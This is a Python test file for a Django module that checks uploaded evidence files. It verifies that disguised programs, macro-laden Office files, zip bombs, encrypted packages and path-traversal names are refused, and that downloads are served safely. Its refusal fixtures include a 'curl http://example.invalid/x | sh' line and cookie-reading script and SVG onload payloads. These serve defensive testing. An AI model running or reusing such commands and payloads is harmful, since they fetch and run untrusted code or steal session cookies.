"""Evidence files (targets/evidence.py): what is accepted, what is refused without being read
(or inflated), and the stored file's round trip to a download.

Every file is built here, small and real: PDF, PNG, JPEG and GIF bytes, a .docx and an .xlsx
written by python-docx and openpyxl, and OLE2 compound files with the streams Word and Excel
keep (``ole_file``).
"""

from __future__ import annotations

import hashlib
import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NoReturn
from urllib.parse import quote

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile, UploadedFile
from django.http import Http404
from django.utils import translation

from targets.evidence import (
    EvidenceRefused,
    check_evidence,
    check_total,
    evidence_response,
    file_size_label,
    safe_download_name,
    store_evidence,
)

ROOT = Path(__file__).resolve().parents[2]

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"


def png() -> bytes:
    """A 1×1 grey PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + chunk(b"IDAT", zlib.compress(b"\0\x80"))
        + chunk(b"IEND", b"")
    )


def word() -> bytes:
    document = docx.Document()
    document.add_paragraph("2015年职业技能培训工作总结")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def excel() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["县区", "培训人数"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def ole_file(*entries: tuple[str, int]) -> bytes:
    """An OLE2 compound file (512-byte sectors: the FAT in sector 0, the directory in sectors 1
    and 2, chained through the FAT) holding ``entries``: (name, 1 storage / 2 stream)."""
    fat = [0xFFFFFFFD, 2, 0xFFFFFFFE] + [0xFFFFFFFF] * 125
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    directory = b""
    for name, kind in [("Root Entry", 5), *entries]:
        encoded = name.encode("utf-16-le") + b"\0\0"
        directory += encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        directory += struct.pack("<III", *[0xFFFFFFFF] * 3) + b"\0" * 36
        directory += struct.pack("<III", 0xFFFFFFFE, 0, 0)
    directory = directory.ljust(1024, b"\0")
    return header + struct.pack("<128I", *fat) + directory


WORD_97 = ole_file(("WordDocument", 2), ("1Table", 2), ("\x05SummaryInformation", 2))
EXCEL_97 = ole_file(("Workbook", 2), ("\x05SummaryInformation", 2))


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(EvidenceRefused) as refused:
        check_evidence(upload(name, content))
    (message,) = refused.value.messages
    return message


def rezip(content: bytes, extra: dict[str, bytes], *, count: int = 0) -> bytes:
    """``content`` (a zip) with ``extra`` members and ``count`` empty ones added."""
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in extra.items():
            archive.writestr(name, data)
        for number in range(count):
            archive.writestr(f"word/parts/part{number}.xml", b"")
    return buffer.getvalue()


def patch_central_directory(content: bytes, member: str, offset: int, value: int) -> bytes:
    """Overwrite a 4-byte field (flags at 8 take 2) of ``member``'s central directory entry."""
    entry = content.index(b"PK\x01\x02")
    while content[entry + 46 : entry + 46 + len(member)] != member.encode():
        entry = content.index(b"PK\x01\x02", entry + 4)
    width = 2 if offset == 8 else 4
    field = value.to_bytes(width, "little")
    return content[: entry + offset] + field + content[entry + offset + width :]


# --- accepted ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "code", "content_type"),
    [
        ("培训证书扫描件.pdf", PDF, "pdf", "application/pdf"),
        ("现场照片.png", png(), "png", "image/png"),
        ("现场照片.JPG", JPEG, "jpeg", "image/jpeg"),
        ("现场照片.jpeg", JPEG, "jpeg", "image/jpeg"),
        ("动图.gif", GIF, "gif", "image/gif"),
        ("工作总结.docx", word(), "docx", "application/vnd.openxmlformats-officedocument."),
        ("工作总结.doc", WORD_97, "doc", "application/msword"),
        ("培训台账.xlsx", excel(), "xlsx", "application/vnd.openxmlformats-officedocument."),
        ("培训台账.xls", EXCEL_97, "xls", "application/vnd.ms-excel"),
    ],
)
def test_each_allowed_kind_is_accepted(name: str, content: bytes, code: str, content_type: str):
    checked = check_evidence(upload(name, content))
    assert checked.kind.code == code
    assert checked.content_type.startswith(content_type)
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.download_name == name.replace(".JPG", ".jpg")


def test_a_workbook_on_disk_is_accepted(settings: Any, tmp_path: Path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    content = excel()
    large = TemporaryUploadedFile("台账.xlsx", "application/octet-stream", len(content), None)
    large.write(content)
    assert check_evidence(large).kind.code == "xlsx"


# --- refused: programs, unknown content, wrong extension -------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", b"MZ\x90\x00\x03" + b"\0" * 200 + b"This program cannot be run in DOS mode"),
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
        ("scan.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 200),
        ("a.docx", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"),
        ("a.pdf", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
        ("chart.png", b'\xef\xbb\xbf  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ],
)
def test_a_renamed_program_or_page_is_refused(name: str, content: bytes):
    message = refusal(name, content)
    assert f"文件“{name}”" in message
    assert "程序、脚本或网页" in message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.pdf", "纯文本说明".encode()),
        ("a.doc", ole_file(("PowerPoint Document", 2))),  # not Word, not Excel
        ("setup.doc", ole_file(("\x05SummaryInformation", 2), ("䡀㼿䕸䑨", 2))),  # an installer
        ("a.docx", rezip(b"", {"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b""})),
        ("a.xlsx", rezip(b"", {"readme.txt": b"just a zip"})),
        ("a.docx", rezip(b"", {"word/document.xml": b"<w:document/>"})),  # no content types
    ],
)
def test_content_not_recognised_is_refused(name: str, content: bytes):
    message = refusal(name, content)
    assert f"文件“{name}”" in message
    assert "不能上传" in message


@pytest.mark.parametrize("name", ["setup.exe", "report.pdf.exe", "notes.txt", "图片.svg", "README"])
def test_a_name_outside_the_allowed_extensions_is_refused(name: str):
    message = refusal(name, PDF)
    assert f"文件“{name}”不能上传" in message
    assert "PDF、图片（.jpg、.png、.gif）、Word（.docx、.doc）或 Excel（.xlsx、.xls）" in message


@pytest.mark.parametrize(
    ("name", "content", "label"),
    [
        ("scan.pdf", png(), "PNG 图片"),
        ("photo.png", JPEG, "JPEG 图片"),
        ("table.xlsx", word(), "Word 文档（.docx）"),
        ("summary.docx", excel(), "Excel 工作簿（.xlsx）"),
        ("summary.doc", EXCEL_97, "旧版 Excel 工作簿（.xls）"),
        ("table.xls", excel(), "Excel 工作簿（.xlsx）"),
    ],
)
def test_an_extension_that_disagrees_with_the_content_is_refused(
    name: str, content: bytes, label: str
):
    extension = "." + name.rpartition(".")[2]
    message = refusal(name, content)
    assert f"文件“{name}”的扩展名是 {extension}，但内容是{label}" in message


def test_an_empty_file_is_refused():
    assert "文件“空.pdf”是空文件" in refusal("空.pdf", b"")
    with translation.override("en"):
        assert (
            refusal("a.pdf", b"") == "“a.pdf” is empty; please check it and choose the file again."
        )
        assert "its content is a PNG image" in refusal("scan.pdf", png())


def test_a_broken_zip_or_compound_file_is_refused_as_unreadable():
    assert "已损坏或无法读取" in refusal("a.docx", b"PK\x03\x04" + b"\0" * 100)
    truncated = WORD_97[:700]  # the directory's sectors are missing
    assert "已损坏或无法读取" in refusal("a.doc", truncated)


def test_a_compound_file_whose_directory_chain_loops_is_refused():
    looping = bytearray(WORD_97)
    looping[512 + 8 : 512 + 12] = struct.pack("<I", 1)  # sector 2's successor: sector 1
    assert "已损坏或无法读取" in refusal("a.doc", bytes(looping))


# --- refused before reading or inflating -----------------------------------------------------


class UnreadableUpload(UploadedFile):
    """Fails the test if anything reads it."""

    def __init__(self, name: str, size: int):
        super().__init__(file=None, name=name, content_type="application/pdf", size=size)

    def _touched(self, *args: object, **kwargs: object) -> NoReturn:
        raise AssertionError("the upload was read")

    read = seek = open = chunks = multiple_chunks = readline = _touched

    def __iter__(self) -> Iterator[bytes]:
        self._touched()


@pytest.mark.parametrize("size", [20 * 1024 * 1024 + 1, 4 * 1024**3])
def test_an_oversized_file_is_refused_without_being_read(size: int):
    with pytest.raises(EvidenceRefused) as refused:
        check_evidence(UnreadableUpload("全年台账.pdf", size))
    message = refused.value.messages[0]
    assert message.startswith(f"文件“全年台账.pdf”有 {file_size_label(size)}")
    assert "超过了每个文件 20 MB 的上限" in message


def test_the_size_limit_is_a_setting(settings: Any):
    settings.EVIDENCE_MAX_BYTES = len(PDF) - 1
    assert "上限" in refusal("a.pdf", PDF)
    settings.EVIDENCE_MAX_BYTES = len(PDF)
    assert check_evidence(upload("a.pdf", PDF)).size == len(PDF)


def test_a_file_longer_than_its_declared_size_is_refused():
    lying = upload("a.pdf", PDF)
    lying.size = len(PDF) - 10
    with pytest.raises(EvidenceRefused, match="已损坏或无法读取"):
        check_evidence(lying)


class CountingUpload(SimpleUploadedFile):
    """An upload that counts the bytes read from it."""

    bytes_read = 0

    def read(self, size: int = -1) -> bytes:
        data = self.file.read(size)
        self.bytes_read += len(data)
        return data


def test_a_file_far_longer_than_its_declared_size_is_not_read_whole():
    lying = CountingUpload("a.pdf", PDF + b"\0" * (8 * 1024 * 1024))
    lying.size = len(PDF)
    with pytest.raises(EvidenceRefused, match="已损坏或无法读取"):
        check_evidence(lying)
    assert lying.bytes_read <= 2 * 1024 * 1024


def refusal_without_inflating(name: str, content: bytes) -> str:
    """``refusal`` while any attempt to open or read a zip member fails the test."""

    def inflating(*args: object, **kwargs: object) -> NoReturn:
        raise AssertionError("a member was inflated")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(zipfile.ZipFile, "open", inflating)
        patch.setattr(zipfile.ZipFile, "read", inflating)
        return refusal(name, content)


def test_a_zip_bomb_is_refused_from_its_central_directory(settings: Any):
    settings.EVIDENCE_MAX_INFLATED_BYTES = 1024 * 1024
    bomb = rezip(word(), {"word/media/image1.png": b"\0" * (2 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024
    message = refusal_without_inflating("总结.docx", bomb)
    assert "文件“总结.docx”解压后超过 1 MB" in message


def test_a_declared_inflated_size_beyond_the_bound_is_refused():
    content = rezip(excel(), {"xl/media/image1.png": b"\0" * 1000})
    declared = patch_central_directory(content, "xl/media/image1.png", 24, 3 * 1024**3)
    assert "解压后超过 200 MB" in refusal_without_inflating("台账.xlsx", declared)


def test_too_many_members_are_refused():
    crowded = rezip(word(), {}, count=1000)
    assert "内部的部件过多" in refusal_without_inflating("总结.docx", crowded)


def test_an_encrypted_member_is_refused():
    content = rezip(word(), {"word/media/image1.png": b"x"})
    encrypted = patch_central_directory(content, "word/media/image1.png", 8, 0x1)
    assert "设置了密码" in refusal_without_inflating("总结.docx", encrypted)


def test_an_encrypted_office_package_is_refused():
    package = ole_file(("EncryptionInfo", 2), ("EncryptedPackage", 2))
    assert "设置了密码" in refusal("总结.docx", package)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("宏.docx", rezip(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("宏.xlsx", rezip(excel(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("宏.xlsx", rezip(excel(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})),
        ("控件.docx", rezip(word(), {"word/activeX/activeX1.bin": b"\0"})),
        ("宏.doc", ole_file(("WordDocument", 2), ("Macros", 1), ("VBA", 1))),
        ("宏.xls", ole_file(("Workbook", 2), ("_VBA_PROJECT_CUR", 1))),
    ],
)
def test_office_files_with_macros_are_refused(name: str, content: bytes):
    message = refusal(name, content)
    assert f"文件“{name}”含有宏或控件" in message


# --- names --------------------------------------------------------------------------------


def test_the_download_name_is_sanitised():
    checked = check_evidence(upload("..\\..\\年度 总结:草稿?.docx", word()))
    assert checked.download_name == "年度 总结_草稿_.docx"
    # A right-to-left override would show "2015gpj.pdf" as "2015fdp.jpg".
    assert check_evidence(upload("2015\u202egpj.pdf", PDF)).download_name == "2015gpj.pdf"
    docx_kind = checked.kind
    assert safe_download_name("../../.bashrc", docx_kind) == "bashrc.docx"
    assert safe_download_name("...", docx_kind) == "佐证材料.docx"
    long = safe_download_name("长" * 300 + ".docx", docx_kind)
    assert long == "长" * 80 + ".docx"


def test_file_sizes_read_as_people_read_them():
    labels = [file_size_label(n) for n in (512, 2048, 20 * 1024**2, 1536 * 1024, 2 * 1024**3)]
    assert labels == ["512 B", "2 KB", "20 MB", "1.5 MB", "2 GB"]


# --- a plan's total --------------------------------------------------------------------------


def test_a_plan_total_is_checked(settings: Any):
    check_total(10, 20, 30)
    with pytest.raises(EvidenceRefused) as refused:
        check_total(1536 * 1024**2, 600 * 1024**2, 2 * 1024**3)
    assert refused.value.messages == [
        "本方案的佐证材料已有 1.5 GB，再上传 600 MB 将超过总量上限 2 GB。"
        "请删除不需要的文件，或请管理员调整上限。"
    ]
    settings.EVIDENCE_PLAN_TOTAL_BYTES = 100
    check_total(50, 50)
    with pytest.raises(EvidenceRefused, match="总量上限 100 B"):
        check_total(50, 51)


# --- stored and downloaded -------------------------------------------------------------------


def test_store_and_download_round_trip_with_a_chinese_name(settings: Any, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path / "media"
    original = upload("鹤壁工业中专/培训基地建设方案.pdf", PDF)
    checked = check_evidence(original)
    stored = store_evidence(original, checked, folder="evidence/2015")

    assert stored.startswith("evidence/2015/") and stored.endswith(".pdf")
    assert "培训" not in stored and len(Path(stored).stem) == 32
    assert (tmp_path / "media" / stored).read_bytes() == PDF

    response = evidence_response(stored, checked.download_name, checked.content_type)
    try:
        assert b"".join(response.streaming_content) == PDF
    finally:
        response.file_to_stream.close()  # close() would signal request_finished
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Length"] == str(len(PDF))
    assert response["Content-Disposition"] == (
        "attachment; filename=\"evidence.pdf\"; filename*=UTF-8''"
        + quote("培训基地建设方案.pdf", safe="")
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("default-src 'none'")
    assert "private" in response["Cache-Control"]


def test_the_same_name_twice_is_stored_twice(settings: Any, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path
    first, second = upload("照片.png", png()), upload("照片.png", png())
    names = {store_evidence(f, check_evidence(f), folder="evidence") for f in (first, second)}
    assert len(names) == 2
    assert len(list((tmp_path / "evidence").iterdir())) == 2


def test_a_download_never_claims_a_type_that_renders(settings: Any, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path
    stored = store_evidence(upload("a.pdf", PDF), check_evidence(upload("a.pdf", PDF)), folder="e")
    response = evidence_response(stored, "a.pdf", "text/html")
    response.file_to_stream.close()  # close() would signal request_finished
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith('attachment; filename="a.pdf"')


def test_evidence_storage_names_an_entry_of_storages(settings: Any, tmp_path: Path):
    backend = {"BACKEND": "django.core.files.storage.FileSystemStorage"}
    other = {**backend, "OPTIONS": {"location": str(tmp_path / "other")}}
    settings.STORAGES = {**settings.STORAGES, "evidence": other}
    settings.MEDIA_ROOT, settings.EVIDENCE_STORAGE = tmp_path / "media", "evidence"
    original = upload("a.pdf", PDF)
    stored = store_evidence(original, check_evidence(original), folder="e")
    assert (tmp_path / "other" / stored).read_bytes() == PDF
    assert not (tmp_path / "media").exists()


def test_a_missing_stored_file_is_not_found(settings: Any, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(Http404):
        evidence_response("evidence/missing.pdf", "a.pdf", "application/pdf")


@pytest.mark.parametrize("folder", ["../outside", "/etc", "evidence/../..", "证据", ""])
def test_the_folder_is_a_plain_relative_path(folder: str, settings: Any, tmp_path: Path):
    settings.MEDIA_ROOT = tmp_path
    original = upload("a.pdf", PDF)
    with pytest.raises(ValueError, match="plain relative path"):
        store_evidence(original, check_evidence(original), folder=folder)


def test_media_root_inside_the_static_files_is_refused_at_start(tmp_path: Path):
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "skills_plan.settings",
        "SECRET_KEY": "x",
        "STATIC_ROOT": str(tmp_path / "static"),
        "MEDIA_ROOT": str(tmp_path / "static" / "media"),
    }
    run = subprocess.run(
        [sys.executable, "-c", "import django; django.setup()"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode != 0
    assert "MEDIA_ROOT" in run.stderr and "never served as static files" in run.stderr
    env["MEDIA_ROOT"] = str(tmp_path / "media")
    ok = subprocess.run([sys.executable, "-c", "import django; django.setup()"], cwd=ROOT, env=env)
    assert ok.returncode == 0
